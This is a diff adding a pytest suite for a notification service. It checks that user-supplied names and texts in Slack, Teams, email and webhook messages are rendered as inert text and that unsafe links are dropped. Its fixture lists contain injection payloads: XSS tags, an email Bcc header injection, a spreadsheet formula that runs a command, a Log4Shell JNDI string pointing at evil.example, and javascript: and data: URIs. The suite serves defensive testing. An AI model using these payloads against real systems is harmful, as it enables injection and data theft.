@@ -1,0 +1,197 @@
+"""Names and texts of users, in every channel: they are shown and do nothing."""
+
+import json
+import re
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from email import message_from_bytes
+from email.message import EmailMessage
+from email.policy import default
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from app.notifications.registry import CHANNELS, load_channels
+from app.notifications.text import followable, one_line, unlinked
+from app.notifications.types import Fact, Item, Message, Notice, Severity
+
+load_channels(print)
+
+PUBLIC = "https://mosaico.example"
+HOSTILE = [
+    "<!channel> <@U123> <https://evil.example|click> & *bold* _x_ `y`",
+    "@here @channel @everyone <at>Everybody</at>",
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "[click](https://evil.example) **bold** # heading\n- list",
+    "name\r\nBcc: everybody@evil.example\r\n\r\nbody",
+    "\x1b[31mred\x1b]0;title\x07 \x00 \x9b",
+    "\u202egnp.exe\u2066 \u200b\u2028line\u2029",
+    "https://evil.example/login www.evil.example",
+    "=cmd|' /C calc'!A0",
+    "{{7*7}} ${jndi:ldap://evil.example} {{DATE(2020-01-01,SHORT)}}",
+    "\ud800 lone",
+]
+LINKS = [
+    "javascript:alert(1)",
+    "https://user@evil.example",
+    'https://x/"><script>',
+    "data:text/html,x",
+]
+
+
+def notice_of(text: str, link: str | None = "/api/v1/alerts/1", items: int = 1) -> Notice:
+    """A message in which every text is the same one."""
+    facts = (Fact(text, text),)
+    item = Item(title=text, sentences=(text,), facts=facts, link=link)
+    message = Message(
+        topic="test",
+        title=text,
+        severity=Severity.WARNING,
+        sentences=(text, text),
+        facts=facts,
+        items=(item,) * items,
+        link=link,
+    )
+    stored = Message.stored(json.loads(json.dumps(message.document())))
+    at = datetime(2026, 11, 22, tzinfo=UTC)
+    return Notice(id="01-message", at=at, message=stored, public_url=PUBLIC)
+
+
+def rendered(channel: str, notice: Notice) -> Any:
+    return json.loads(CHANNELS.get(channel).render(notice))
+
+
+def nodes(document: Any) -> Iterator[dict[str, Any]]:
+    """Every object in a document."""
+    members: list[Any] = []
+    if isinstance(document, dict):
+        yield document
+        members = list(document.values())
+    elif isinstance(document, list):
+        members = document
+    for member in members:
+        yield from nodes(member)
+
+
+def texts(document: Any) -> Iterator[str]:
+    for node in nodes(document):
+        yield from (value for value in node.values() if isinstance(value, str))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_slack_gets_user_texts_only_where_it_reads_no_markup(text: str) -> None:
+    document = rendered("SLACK", notice_of(text))
+    known = {"header", "plain_text", "rich_text", "rich_text_section", "text", "link"}
+    assert {node["type"] for node in nodes(document) if "type" in node} <= known
+    assert (document["mrkdwn"], document["parse"], document["link_names"]) == (False, "none", False)
+    assert not re.search(r"<|>|&(?!amp;|lt;|gt;)", document["text"])
+    links = {node["url"] for node in nodes(document) if node.get("type") == "link"}
+    assert links == {f"{PUBLIC}/api/v1/alerts/1"}
+    assert all(text.replace("\n", "").isprintable() for text in texts(document))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_teams_gets_user_texts_only_in_text_runs(text: str) -> None:
+    document = rendered("TEAMS", notice_of(text))
+    card = document["attachments"][0]["content"]
+    assert {block["type"] for block in card["body"]} == {"RichTextBlock"}
+    inlines = [run for block in card["body"] for run in block["inlines"]]
+    assert {run["type"] for run in inlines} == {"TextRun"}
+    assert "entities" not in card["msteams"]
+    urls = {node["url"] for node in nodes(card) if "url" in node}
+    assert urls == {f"{PUBLIC}/api/v1/alerts/1"}
+    assert all(run["text"].isprintable() for run in inlines)
+
+
+class Page(HTMLParser):
+    """The tags of a page, with the links in it."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.links: set[str | None] = set()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.links |= {value for name, value in attrs if name in ("href", "src")}
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_mail_has_the_headers_and_the_tags_that_it_always_has(text: str) -> None:
+    raw = CHANNELS.get("EMAIL").render(notice_of(text))
+    mail = message_from_bytes(raw, EmailMessage, policy=default)
+    assert isinstance(mail, EmailMessage)
+    assert set(mail.keys()) == {"Subject", "Auto-Submitted", "MIME-Version", "Content-Type"}
+    assert str(mail["Subject"]).isprintable()
+    assert len(list(mail.iter_parts())) == 2
+    html = mail.get_body(("html",))
+    assert isinstance(html, EmailMessage)
+    page = Page()
+    page.feed(html.get_content())
+    assert page.tags <= {"html", "head", "meta", "body", "h2", "p", "b", "br", "a"}
+    assert page.links == {f"{PUBLIC}/api/v1/alerts/1"}
+    plain = mail.get_body(("plain",))
+    assert isinstance(plain, EmailMessage)
+    shown = plain.get_content().replace(f"{PUBLIC}/api/v1/alerts/1", "")
+    assert not re.search(r"\w://", shown)
+    assert all(line.isprintable() for line in shown.splitlines())
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_webhook_gets_the_texts_as_data(text: str) -> None:
+    raw = CHANNELS.get("WEBHOOK").render(notice_of(text))
+    assert raw.isascii()
+    assert not re.search(rb"[\x00-\x1f\x7f]", raw)
+    kept = text.replace("\0", "\N{REPLACEMENT CHARACTER}").encode("utf-8", "replace").decode()
+    assert json.loads(raw)["data"]["title"] == kept
+
+
+@pytest.mark.parametrize("channel", ["EMAIL", "SLACK", "TEAMS", "WEBHOOK"])
+@pytest.mark.parametrize("link", LINKS)
+def test_a_link_that_is_no_page_is_left_out(channel: str, link: str) -> None:
+    body = CHANNELS.get(channel).render(notice_of("pelican", link)).decode()
+    assert "evil" not in body
+    assert "script" not in body
+    assert "data:text" not in body
+
+
+@given(st.text(max_size=60))
+@settings(max_examples=60)
+def test_whatever_a_name_is_every_channel_can_tell_it(name: str) -> None:
+    notice = notice_of(name)
+    for channel in ("EMAIL", "SLACK", "TEAMS", "WEBHOOK"):
+        render = CHANNELS.get(channel).render
+        assert render(notice) == render(notice)
+
+
+@given(st.text())
+def test_a_line_is_printable_and_short(text: str) -> None:
+    line = one_line(text, 40)
+    assert len(line) <= 40
+    assert line.isprintable()
+    assert not re.search(r"\w://", unlinked(text, 40))
+
+
+@pytest.mark.parametrize("size", [1, 30, 500])
+def test_a_card_of_teams_fits_into_28_kilobytes(size: int) -> None:
+    long = notice_of("ü" * 900, items=size)
+    body = CHANNELS.get("TEAMS").render(long)
+    assert len(body) <= 28 * 1024
+    if size == 500:
+        assert re.search(rb"and \d+ more", body)
+
+
+def test_a_message_of_slack_has_at_most_fifty_blocks() -> None:
+    document = rendered("SLACK", notice_of("pelican", items=500))
+    assert len(document["blocks"]) <= 50
+    assert document["blocks"][-1]["elements"][0]["elements"][0]["text"] == "and 460 more"
+
+
+def test_links_lead_to_this_service_or_to_pages() -> None:
+    assert followable("/api/v1/alerts/1", PUBLIC) == f"{PUBLIC}/api/v1/alerts/1"
+    assert followable("https://langfuse.example/t/1?x=1", PUBLIC) is not None
+    assert followable(None, PUBLIC) is None
+    assert followable("/x", "") is None
